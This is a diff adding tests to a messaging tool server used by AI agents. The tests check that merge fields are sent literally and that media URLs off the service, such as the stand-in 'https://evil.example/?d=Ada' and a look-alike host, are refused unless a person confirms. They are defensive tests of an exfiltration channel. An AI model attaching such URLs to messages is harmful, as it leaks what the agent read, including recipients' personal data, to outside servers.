@@ -154,6 +154,35 @@ describe('a repeated call', () => {
   });
 });
 
+describe('a text with merge fields', () => {
+  const written = 'Hi {{first_name}}, {{notes}}';
+
+  it('goes out as the agent wrote it, so that it reveals nothing about the recipient', async () => {
+    const agent = await agentWith();
+    await account.client.contact.upsert({ phone: to, first_name: 'Ada' });
+    const preview = await agent.call('preview_message', { to, text: written });
+    expect(preview.data).toMatchObject({ would_send: true });
+    const sent = await agent.call('send_message', { to, text: written });
+    expect(sent).toMatchObject({ isError: false, data: { message: { text: written } } });
+    const id = await conversationWith(to);
+    const again = { id, text: written, deduplication_key: 'again' };
+    expect((await agent.call('reply_in_conversation', again)).isError).toBe(false);
+    expect(await sentTexts()).toEqual([written, written]);
+  });
+
+  it('is the same in the question to the person', async () => {
+    const questions: string[] = [];
+    const person = (question: string) => {
+      questions.push(question);
+      return { send: true };
+    };
+    const agent = await agentWith({ variables: { TEXTLOOM_CONFIRM: 'true' }, person });
+    expect((await agent.call('send_message', { to, text: written })).isError).toBe(false);
+    expect(questions).toEqual([expect.stringMatching(/Hi \{\{first_name\}\}, \{\{notes\}\}$/)]);
+    expect(await sentTexts()).toEqual([written]);
+  });
+});
+
 describe('a repeated call for a text that did not arrive', () => {
   it('says that it was canceled, and how to try again', async () => {
     const agent = await agentWith();
@@ -217,6 +246,48 @@ describe('the list of allowed recipients', () => {
     expect((await account.client.message.get({ id: other })).status).toBe('scheduled');
     expect(await agent.call('cancel_message', { id: own })).toMatchObject({
       data: { message: { status: 'canceled' } },
+    });
+  });
+
+  describe('and media', () => {
+    const stolen = ['https://evil.example/?d=Ada'];
+    const sendMedia = (agent: Agent, media_urls: readonly string[]) =>
+      agent.call('send_message', { to, text, media_urls });
+
+    it('refuses a URL that can tell another server what the agent read', async () => {
+      const agent = await agentWith({ variables });
+      const id = await conversationWith(to);
+      for (const refused of [
+        await sendMedia(agent, stolen),
+        await sendMedia(agent, [`${harness.url}/media/med_1`, ...stolen]),
+        await sendMedia(agent, [`${harness.url}.evil.example/media/med_1`]),
+        await agent.call('reply_in_conversation', { id, text, media_urls: stolen }),
+      ]) {
+        expect(refused.isError).toBe(true);
+        expect(refused.text).toMatch(/only media that the service received.*Nothing was sent\./);
+      }
+      const preview = await agent.call('preview_message', { to, text, media_urls: stolen });
+      expect(preview.data).toMatchObject({
+        would_send: false,
+        problem: expect.stringMatching(/"media_urls"/),
+      });
+      expect(await sentTexts()).toEqual([]);
+    });
+
+    it('lets the agent pass on media that the service received', async () => {
+      account = harness.account();
+      for (const connect of [agentHere, agentOverStdio, agentOverHttp]) {
+        const agent = await opened(connect(harness.url, account.keys.send, { variables }));
+        const url = `${harness.url}/media/med_${connect.name}`;
+        expect(await sendMedia(agent, [url])).toMatchObject({ isError: false });
+      }
+    });
+
+    it('lets a person confirm any URL', async () => {
+      const person = () => ({ send: true });
+      const confirmed = { ...variables, TEXTLOOM_CONFIRM: 'true' };
+      const agent = await agentWith({ variables: confirmed, person });
+      expect(await sendMedia(agent, stolen)).toMatchObject({ isError: false });
     });
   });
 
